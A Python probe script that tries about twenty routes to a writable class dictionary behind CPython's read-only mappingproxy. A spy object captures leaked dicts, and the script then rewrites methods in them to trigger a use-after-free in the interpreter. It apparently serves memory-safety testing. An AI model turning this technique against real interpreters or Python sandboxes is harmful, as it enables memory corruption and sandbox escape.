"""Every known way to a writable class dictionary, followed by the store that would be a use after free (P1, F10, F11)."""
import types

loot = []
found = []


class Spy:
    def keep(self, *others):
        found.extend(others)
        return True

    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __or__ = __ror__ = __and__ = __rand__ = keep

    def __hash__(self):
        return 1


class Mixin: ...


class Meta(Mixin, type): ...


class Plain:
    def method(self):
        return 1


Made = Meta("Made", (), {"method": lambda self: 1})
spy = Spy()
getset = None
for base in (Mixin, Plain, Meta):
    try:
        getset = vars(base)["__dict__"]
        setattr(Meta, "borrowed", getset)
    except BaseException as error:
        loot.append(error.args)
for cls in (Plain, Made, Meta, int, type, Exception):
    for get in (
        lambda: cls.__dict__, lambda: vars(cls), lambda: getattr(cls, "__dict__"), lambda: object.__getattribute__(cls, "__dict__"), lambda: type.__getattribute__(cls, "__dict__"), lambda: super(type(cls), cls).__dict__, lambda: type.__dict__["__dict__"].__get__(cls), lambda: getset.__get__(cls), lambda: cls.borrowed, lambda: types.MethodType(vars, cls)(),
        lambda: staticmethod(cls).__dict__, lambda: classmethod(cls).__dict__, lambda: types.GenericAlias(cls, ()).__dict__, lambda: cls.__reduce_ex__(2), lambda: cls.__getstate__(), lambda: cls.__annotations__, lambda: property(cls).__dict__, lambda: types.new_class("X", (cls,)).__dict__, lambda: eval("locals()", {}, cls.__dict__), lambda: dir(cls), lambda: __import__("inspect").getmembers(cls),
    ):
        try:
            view = get()
        except BaseException as error:
            loot.append(error.args)
            continue
        loot.append(view)
        for use in (lambda: view == spy, lambda: view | spy, lambda: spy | view, lambda: view != spy, lambda: view < spy, lambda: view.items() == spy, lambda: view.keys() & spy, lambda: view.keys().mapping == spy, lambda: view.copy() == spy, lambda: {**view}, lambda: view.__or__(spy), lambda: type(view)(view) == spy, lambda: view.__class__(view) | spy):
            try:
                loot.append(use())
            except BaseException as error:
                loot.append(error.args)
loot.extend(found)
value = Plain()
for _ in range(200):
    value.method()
for each in found:
    if isinstance(each, dict) and "method" in each:
        for number in range(100):
            each["method"] = (lambda n: lambda self: n)(number)
            value.method()
            Made().method()
